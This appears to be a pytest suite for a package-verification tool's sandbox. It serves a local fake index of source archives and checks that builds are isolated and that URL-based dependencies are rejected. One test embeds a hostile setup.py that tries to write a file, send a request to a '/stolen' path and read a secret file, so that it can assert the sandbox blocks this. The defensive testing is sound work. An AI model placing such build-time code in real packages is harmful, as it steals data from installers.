"""Packages that are there as source archives only, built by the real pip in the real sandbox; hostile ones too."""

from __future__ import annotations

import hashlib
import http.server
import io
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from fossml.verify.environment.sdist import Archive, archive_in, is_plain, requires
from tests.verify.environment.conftest import Lab, by_code

SETUP = "from setuptools import setup\nsetup(name='birds', version='1.0', py_modules=['birds']{more})\n"


class Index:
    """An index beside PyPI that has one source archive, and remembers what it was asked for."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.asked: list[str] = []
        self.archive = b""

    def has(self, setup: str, **files: str) -> None:
        with io.BytesIO() as packed:
            with tarfile.open(fileobj=packed, mode="w:gz") as tar:
                for name, text in {"setup.py": setup, "birds.py": "wings = 2\n", **files}.items():
                    one = tarfile.TarInfo(f"birds-1.0/{name.replace('__', '.')}")
                    one.size = len(text.encode())
                    tar.addfile(one, io.BytesIO(text.encode()))
            self.archive = packed.getvalue()

    def answer(self, path: str) -> bytes | None:
        self.asked.append(path)
        if path == "/birds/":
            digest = hashlib.sha256(self.archive).hexdigest()
            return f'<a href="birds-1.0.tar.gz#sha256={digest}">birds-1.0.tar.gz</a>'.encode()
        return self.archive if path.endswith(".tar.gz") else None


@pytest.fixture
def index(lab: Lab) -> Iterator[Index]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = here.answer(self.path)
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html" if self.path.endswith("/") else "application/gzip")
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *_args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        here = Index(server.server_port)
        lab.env["UV_EXTRA_INDEX_URL"] = here.url
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield here
        server.shutdown()
        thread.join()


def test_what_is_on_pypi_as_a_source_archive_only_is_built_once(lab: Lab) -> None:
    made = lab.make({"requirements.txt": "six==1.15.0\ndocopt==0.6.2\n"}, date="")
    assert made.distributions == {"docopt": "0.6.2", "six": "1.15.0"}
    assert lab.runs(made, "import docopt; print(docopt.__version__)") == "0.6.2"
    found = by_code(made, "ENV014")
    assert (found.subject, found.evidence[0].line, made.not_checked) == ("docopt", 2, ())
    lab.make({"requirements.txt": "docopt==0.6.2\n"}, date="")
    assert len([line for line in lab.said if line.startswith("building docopt 0.6.2")]) == 1


def test_what_is_built_reaches_nothing_of_the_machine(lab: Lab, index: Index, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    evil = f"""
import os, urllib.request
for act in (lambda: open({str(tmp_path / "mark")!r}, "w"), lambda: urllib.request.urlopen("{index.url}/stolen")):
    try: act()
    except OSError: pass
    else: raise SystemExit("it could")
if os.path.exists({str(tmp_path / "secret")!r}): raise SystemExit("it saw")
"""
    index.has(evil + SETUP.format(more=""))
    made = lab.make({"requirements.txt": "birds\n"}, date="")
    assert lab.runs(made, "import birds; print(birds.wings)") == "2", made
    assert not (tmp_path / "mark").exists()
    assert "/stolen" not in index.asked


def test_what_asks_for_something_by_an_address_is_not_installed(lab: Lab, index: Index) -> None:
    index.has(SETUP.format(more=f", install_requires=['fish @ {index.url}/fish-1.0-py3-none-any.whl']"))
    made = lab.make({"requirements.txt": "six==1.15.0\nbirds\n"}, date="")
    assert made.distributions == {"six": "1.15.0"}
    assert "asks for something by an address" in by_code(made, "ENV003").message
    assert not [path for path in index.asked if "fish" in path]


def test_what_building_asks_for_is_a_release(lab: Lab, index: Index) -> None:
    project = f'[build-system]\nrequires = ["setuptools", "fish @ {index.url}/fish.tar.gz"]\n'
    index.has(SETUP.format(more=""), pyproject__toml=project)
    made = lab.make({"requirements.txt": "six==1.15.0\nbirds\n"}, date="")
    assert "asks for something that is no release" in by_code(made, "ENV003").message
    assert not [path for path in index.asked if "fish" in path]


def test_what_does_not_build_is_named_with_the_reason(lab: Lab, index: Index) -> None:
    index.has("import no_such_module\n")
    made = lab.make({"requirements.txt": "six==1.15.0\nbirds\n"}, date="")
    assert made.distributions == {"six": "1.15.0"}
    found = by_code(made, "ENV003")
    assert found.message.endswith(
        "does not build in the sandbox: ModuleNotFoundError: No module named 'no_such_module'"
    )
    assert (found.subject, found.evidence[0].line) == ("birds", 2)


def wheel(place: Path, name: str, metadata: str) -> Path:
    with zipfile.ZipFile(place / name, "w") as file:
        file.writestr("birds-1.0.dist-info/METADATA", metadata)
    return place / name


BIRDS = Archive("birds", "1.0", "https://example.org/birds-1.0.tar.gz", "0" * 64)
NAME = "birds-1.0-py3-none-any.whl"


def test_a_wheel_is_what_was_to_be_built(tmp_path: Path) -> None:
    assert is_plain(wheel(tmp_path, NAME, "Name: birds\nRequires-Dist: six (>=1)\n"), BIRDS)
    assert not is_plain(wheel(tmp_path, "setuptools-1.0-py3-none-any.whl", "Name: setuptools\n"), BIRDS)
    assert not is_plain(wheel(tmp_path, "birds-1.1-py3-none-any.whl", "Name: birds\n"), BIRDS)
    for asked in ("x @ file:///etc", "x@https://a.b/c", "x\n @ git+ssh://a"):
        assert not is_plain(wheel(tmp_path, NAME, f"Name: birds\nRequires-Dist: {asked}\n"), BIRDS)
    (tmp_path / NAME).write_bytes(b"no wheel")
    assert not is_plain(tmp_path / NAME, BIRDS)


@pytest.mark.parametrize("text", ["", "[", "build-system = 1", "[build-system]\nrequires = 1", "[build-system]\n"])
def test_a_pyproject_that_says_nothing_asks_for_nothing(text: str, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(text)
    assert requires(tmp_path / "pyproject.toml") == ()


@pytest.mark.parametrize("url", ["file:///etc/x.tar.gz", "https://example.org/x.exe", "git+https://example.org/x.zip"])
def test_an_archive_of_another_kind_is_none(url: str) -> None:
    sdist = f'sdist = {{ url = "{url}", hashes = {{ sha256 = "{"0" * 64}" }} }}'
    said = f'[[packages]]\nname = "x"\nversion = "1"\n{sdist}\n'
    assert archive_in(said) is None
    assert archive_in(said.replace(url, BIRDS.url)) is not None
